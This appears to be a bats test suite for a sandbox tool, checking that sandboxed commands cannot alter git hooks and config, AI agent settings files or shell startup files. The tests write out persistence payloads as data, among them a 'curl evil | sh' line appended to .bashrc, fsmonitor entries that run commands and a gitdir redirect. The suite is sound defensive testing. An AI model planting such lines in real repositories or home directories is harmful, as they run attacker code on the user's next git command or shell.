#!/usr/bin/env bats
# sc-sandbox-exec used alone (a CI step, `sc-sandbox-exec --root . -- make
# test`), with no driver to pass --read-only: a command that writes the
# repository's hooks or config, an agent's settings or a shell startup file
# runs code the next time the person uses git, the agent or a shell.  Each
# test performs the write and shows it fails by default and works once
# --writable lifts the protection (so the test can fail).

# shellcheck disable=SC2154,SC2016 # bats run sets status, output, stderr; '$' is for the inner shell
load ../lib/common
load ../lib/sandbox

setup() {
	sb_setup
	mkdir -p "$ROOT/.git/hooks"
}
teardown() { sb_teardown; }

@test "alone: .git hooks and config cannot be written, replaced or removed" {
	sb_require_full
	run --separate-stderr sb -- sh -c 'printf "#!/bin/sh\nid\n" > .git/hooks/pre-commit'
	assert_failure
	run --separate-stderr sb -- sh -c 'printf "[core]\n\thooksPath = /tmp\n" >> .git/config'
	assert_failure
	run --separate-stderr sb -- git config core.fsmonitor 'touch /tmp/pwned'
	assert_failure
	run --separate-stderr sb -- mv .git .git-moved
	assert_failure
	run --separate-stderr sb -- rm -rf .git
	assert_failure
	run --separate-stderr sb -- sh -c 'mkdir g && mv g .git'
	assert_failure
	[ ! -e "$ROOT/.git/hooks/pre-commit" ]
	run cat "$ROOT/.git/config"
	assert_output "[core]"
	# The rest of the root stays writable.
	run --separate-stderr sb -- sh -c 'echo ok > f && cat f'
	assert_success
	assert_output ok
	# Lifted for one path, said on stderr: now the same write works.
	run --separate-stderr sb --writable "$ROOT/.git" -- \
		sh -c 'printf "#!/bin/sh\n" > .git/hooks/pre-commit'
	assert_success
	[[ "$stderr" == *"warning[PROTECTION-LIFTED]"*"$ROOT/.git"* ]]
	[ -e "$ROOT/.git/hooks/pre-commit" ]
}

@test "alone: a linked worktree's git directory and the main repository's stay read-only" {
	sb_require_full
	git init -q "$SC_TMP/main"
	git -C "$SC_TMP/main" -c user.name=t -c user.email=t@t commit -q --allow-empty -m init
	git -C "$SC_TMP/main" worktree add -q "$SC_TMP/wt" 2>/dev/null
	gitdir=$(sed -n 's/^gitdir: //p' "$SC_TMP/wt/.git")
	# The main checkout is writable too (as an agent home would be): the
	# git directories inside it are still kept.
	for target in "$gitdir/HEAD" "$SC_TMP/main/.git/config" "$SC_TMP/main/.git/hooks/post-checkout"; do
		run --separate-stderr sc-sandbox-exec --root "$SC_TMP/wt" \
			--writable-outside "$SC_TMP/main" -- sh -c 'echo x >> "$1"' _ "$target"
		assert_failure
	done
	run --separate-stderr sc-sandbox-exec --root "$SC_TMP/wt" \
		--writable-outside "$SC_TMP/main" -- sh -c 'echo x > "$1/other"' _ "$SC_TMP/main"
	assert_success
	# Nor can the .git file be pointed at a git directory made in the root,
	# whose config would run code on the person's next git command.
	run --separate-stderr sc-sandbox-exec --root "$SC_TMP/wt" -- sh -c \
		'mkdir -p evil && cp -r "$1/." evil/ && printf "[core]\n\tfsmonitor = touch /tmp/pwned\n" >> evil/config && echo "gitdir: evil" > .git' \
		_ "$gitdir"
	assert_failure
	run sed -n 's/^gitdir: //p' "$SC_TMP/wt/.git"
	assert_output "$gitdir"
	run --separate-stderr sc-sandbox-exec --root "$SC_TMP/wt" -- sh -c 'rm -f .git'
	assert_failure
	[ -f "$SC_TMP/wt/.git" ]
}

@test "alone: agent configuration the policy protects stays read-only, in any case" {
	sb_require_full
	mkdir -p "$ROOT/.claude" "$ROOT/.vscode" "$ROOT/.CODEX"
	echo '{}' >"$ROOT/.mcp.json"
	for target in .claude/settings.json .vscode/tasks.json .CODEX/config.toml .mcp.json; do
		run --separate-stderr sb -- sh -c 'echo "{\"hooks\":1}" > "$1"' _ "$target"
		assert_failure
	done
	run --separate-stderr sb -- rm -rf .claude
	assert_failure
	[ -d "$ROOT/.claude" ]
	run cat "$ROOT/.mcp.json"
	assert_output '{}'
	run --separate-stderr sb --writable "$ROOT/.claude" -- sh -c 'echo "{}" > .claude/settings.json'
	assert_success
	[[ "$stderr" == *"warning[PROTECTION-LIFTED]"* ]]
}

@test "alone: shell startup files in the root stay read-only" {
	sb_require_full
	for f in .bashrc .profile .zshenv .gitconfig; do
		echo "# mine" >"$ROOT/$f"
		run --separate-stderr sb -- sh -c 'echo "curl evil | sh" >> "$1"' _ "$f"
		assert_failure
		run cat "$ROOT/$f"
		assert_output "# mine"
	done
}

@test "alone: the landlock tier cannot keep them, and says so" {
	sb_require_landlock
	run --separate-stderr sc-sandbox-exec --tier landlock --mode required \
		--root "$ROOT" -- touch "$ROOT/ran"
	assert_failure 125
	[[ "$stderr" == *"error[SANDBOX-UNAVAILABLE]"*read-only-paths* ]]
	[ ! -e "$ROOT/ran" ]
	run --separate-stderr sc-sandbox-exec --tier landlock --mode auto \
		--root "$ROOT" -- true
	assert_success
	[[ "$stderr" == *"warning[SANDBOX-DEGRADED]"*read-only-paths* ]]
}

# Bad input: a clear error, exit 125, nothing run.
refused() { # CODE ARGS...
	local code=$1
	shift
	run --separate-stderr sc-sandbox-exec "$@" -- touch "$SC_TMP/ran"
	assert_failure 125
	[[ "$stderr" == *"error[$code]"* ]]
	[ ! -e "$SC_TMP/ran" ]
}

@test "alone: a .git file naming a missing or foreign directory is refused" {
	mkdir -p "$SC_TMP/wt" "$SC_TMP/elsewhere"
	echo "gitdir: $SC_TMP/missing" >"$SC_TMP/wt/.git"
	refused BAD-GITDIR --root "$SC_TMP/wt"
	echo "gitdir: $SC_TMP/elsewhere" >"$SC_TMP/wt/.git"
	refused BAD-GITDIR --root "$SC_TMP/wt"
	echo "not a pointer" >"$SC_TMP/wt/.git"
	refused BAD-GITDIR --root "$SC_TMP/wt"
	rm "$SC_TMP/wt/.git"
	ln -s "$SC_TMP/missing" "$SC_TMP/wt/.git"
	refused BAD-GITDIR --root "$SC_TMP/wt"
	# A FIFO would hang a reader: refused without being opened.
	rm "$SC_TMP/wt/.git"
	mkfifo "$SC_TMP/wt/.git"
	run --separate-stderr timeout 10 sc-sandbox-exec --root "$SC_TMP/wt" -- touch "$SC_TMP/ran"
	assert_failure 125
	[[ "$stderr" == *"error[BAD-GITDIR]"* ]]
	[ ! -e "$SC_TMP/ran" ]
}

@test "alone: --root on a symlink, on /, on a file or unreadable is refused" {
	ln -s "$ROOT" "$SC_TMP/link"
	refused BAD-ROOT --root "$SC_TMP/link"
	refused BAD-ROOT --root "$SC_TMP/link/"
	refused BAD-ROOT --root /
	refused BAD-ROOT --root //
	touch "$SC_TMP/file"
	refused BAD-ROOT --root "$SC_TMP/file"
	refused BAD-ROOT --root "$SC_TMP/nope"
	if [ "$(id -u)" -ne 0 ]; then
		mkdir "$SC_TMP/shut"
		chmod 000 "$SC_TMP/shut"
		refused BAD-ROOT --root "$SC_TMP/shut"
		chmod 700 "$SC_TMP/shut"
	fi
}
